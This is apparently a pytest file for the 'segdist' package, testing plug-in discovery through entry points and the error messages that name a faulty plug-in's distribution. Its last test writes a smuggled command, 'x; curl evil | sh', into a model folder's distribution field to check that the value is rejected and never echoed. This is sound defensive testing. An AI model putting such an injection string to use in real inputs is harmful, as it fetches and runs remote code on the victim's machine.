"""Plug-ins of other distributions are found by entry points, and what is wrong with one names its distribution."""

import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from segdist.core import registry
from segdist.core.errors import SpecError, WeightsError
from segdist.core.registry import PluginKind
from segdist.core.spec import AdapterSpec, EvaluateSpec, ModelSpec
from segdist.engine.checkpoint import Description, describe, write
from segdist.tracking import pyfunc

FAMILY = """
from segdist.core.plugins import Family, ModelOptions
FAMILY = Family(options=ModelOptions, debug={}, losses={}, encoder=(), lora_targets=(), lora_trains=())
"""


@pytest.fixture(autouse=True)
def lists_anew(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """What is installed is listed once in a process; here it changes."""
    modules = set(sys.modules)
    registry._outside.cache_clear()
    yield
    monkeypatch.undo()
    registry._outside.cache_clear()
    for name in set(sys.modules) - modules:
        if name.startswith("outside_"):
            del sys.modules[name]


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that packages are installed into."""
    monkeypatch.syspath_prepend(str(tmp_path))
    return tmp_path


def install(
    site: Path, distribution: str, entries: Mapping[str, str], files: Mapping[str, str], *, kind: str = "models"
) -> None:
    """What an installer leaves behind."""
    info = site / f"{distribution.replace('-', '_')}-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {distribution}\nVersion: 0.1\n")
    listed = "\n".join(f"{name} = {value}" for name, value in entries.items())
    (info / "entry_points.txt").write_text(f"[segdist.{kind}]\n{listed}\n")
    for name, text in files.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(text)


def test_a_family_of_another_distribution_is_listed_without_importing_it_and_loaded_with_its_network(
    site: Path,
) -> None:
    files = {"outside_a/__init__.py": FAMILY, "outside_a/network.py": "build = print"}
    install(site, "outside-a", {"tiny": "outside_a"}, files)
    assert "tiny" in registry.names("models")
    assert {"sam", "unet_cbam"} <= set(registry.names("models"))
    assert "outside_a" not in sys.modules
    assert registry.load("models", "tiny").FAMILY.losses == {}
    assert "outside_a.network" not in sys.modules
    assert registry.load_network("tiny").build is print
    assert registry.distribution("models", "tiny") == ("outside-a", "0.1")
    assert registry.distribution("models", "sam") == ("", "")
    assert registry.distributions() == ["outside-a"]


def test_a_plug_in_is_one_of_its_own_kind_alone(site: Path) -> None:
    install(site, "outside-a", {"pairs": "outside_a"}, {"outside_a.py": "Options = Format = object"}, kind="formats")
    assert "pairs" in registry.names("formats")
    assert "pairs" not in {*registry.names("models"), *registry.names("prompts")}
    assert registry.load("formats", "pairs").Format is object


@pytest.mark.parametrize("kind", ["models", "formats", "prompts"])
def test_a_name_that_two_have_names_both_distributions(kind: PluginKind, site: Path) -> None:
    taken = registry.names(kind)[0]
    registry._outside.cache_clear()
    install(site, "outside-a", {"twice": "outside_a", taken: "outside_a"}, {}, kind=kind)
    install(site, "outside-b", {"twice": "outside_b"}, {}, kind=kind)
    with pytest.raises(SpecError, match=r"`twice` is in outside-[ab] 0\.1 and outside-[ab] 0\.1"):
        registry.load(kind, "twice")
    with pytest.raises(SpecError, match=f"`{taken}` is in segdist and outside-a 0.1"):
        registry.load(kind, taken)


@pytest.mark.parametrize(
    ("value", "text", "reason"),
    [
        ("outside_a", "import no_such_library", "ModuleNotFoundError: No module named 'no_such_library'"),
        ("outside_a", "def", "SyntaxError"),
        ("outside_a", "raise RuntimeError('no driver')", "RuntimeError: no driver"),
        ("outside_a", "from segdist.core import no_such_thing", "ImportError"),
        ("outside_b", "", "No module named 'outside_b'"),
        ("outside_a", "FAMILIES = []", "must define `FAMILY`"),
        ("outside_a:FAMILY", FAMILY, "must name a module, but is `outside_a:FAMILY`"),
        ("outside_a [more]", FAMILY, "must name a module, but is `outside_a [more]`"),
        ("../outside_a", FAMILY, "must name a module, but is `../outside_a`"),
    ],
)
def test_a_plug_in_that_cannot_be_imported_names_its_distribution_and_why(
    value: str, text: str, reason: str, site: Path
) -> None:
    install(site, "outside-a", {"tiny": value}, {"outside_a/__init__.py": text})
    with pytest.raises(SpecError) as caught:
        registry.load("models", "tiny")
    assert "The model family `tiny` of outside-a 0.1 cannot be used" in str(caught.value)
    assert reason in str(caught.value)


def test_a_family_without_a_network_names_its_distribution(site: Path) -> None:
    install(site, "outside-a", {"tiny": "outside_a"}, {"outside_a.py": FAMILY})
    with pytest.raises(SpecError, match=r"`tiny` of outside-a 0\.1 .*outside_a\.network"):
        registry.load_network("tiny")


@pytest.mark.parametrize("name", ["family", "trained", "a.b", "a-b", "7"])
def test_a_name_that_no_sweep_file_could_hold_is_refused(name: str, site: Path) -> None:
    install(site, "outside-a", {name: "outside_a"}, {"outside_a.py": FAMILY})
    with pytest.raises(SpecError, match=r"outside-a 0\.1 cannot be used: its name must be an identifier"):
        registry.load("models", name)


def test_a_model_of_a_family_that_is_not_installed_names_what_is_missing(
    site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    install(site, "outside-a", {"tiny": "outside_a"}, {"outside_a.py": FAMILY})
    model = ModelSpec.model_validate({"family": "tiny", "tiny": {}})
    write(site / "model", {}, Description(model, AdapterSpec(), ("roof",), EvaluateSpec(), ""))
    assert describe(site / "model").model.family == "tiny"
    assert "outside-a==0.1" in pyfunc.requirements("tiny")

    monkeypatch.undo()
    registry._outside.cache_clear()
    with pytest.raises(WeightsError, match=r"`tiny`, which came from the distribution outside-a 0\.1 .*install it"):
        describe(site / "model")


def test_what_a_model_folder_calls_a_distribution_is_no_free_text(tmp_path: Path) -> None:
    model = ModelSpec.model_validate({"family": "unet_cbam", "unet_cbam": {}})
    write(tmp_path, {}, Description(model, AdapterSpec(), ("roof",), EvaluateSpec(), ""))
    text = (tmp_path / "model.json").read_text().replace("unet_cbam", "tiny")
    assert "distribution" not in text
    (tmp_path / "model.json").write_text(text.replace('"model"', '"distribution": "x; curl evil | sh", "model"'))
    with pytest.raises(WeightsError) as caught:
        describe(tmp_path)
    assert "evil" not in str(caught.value)
    assert "no model family `tiny`" in str(caught.value)
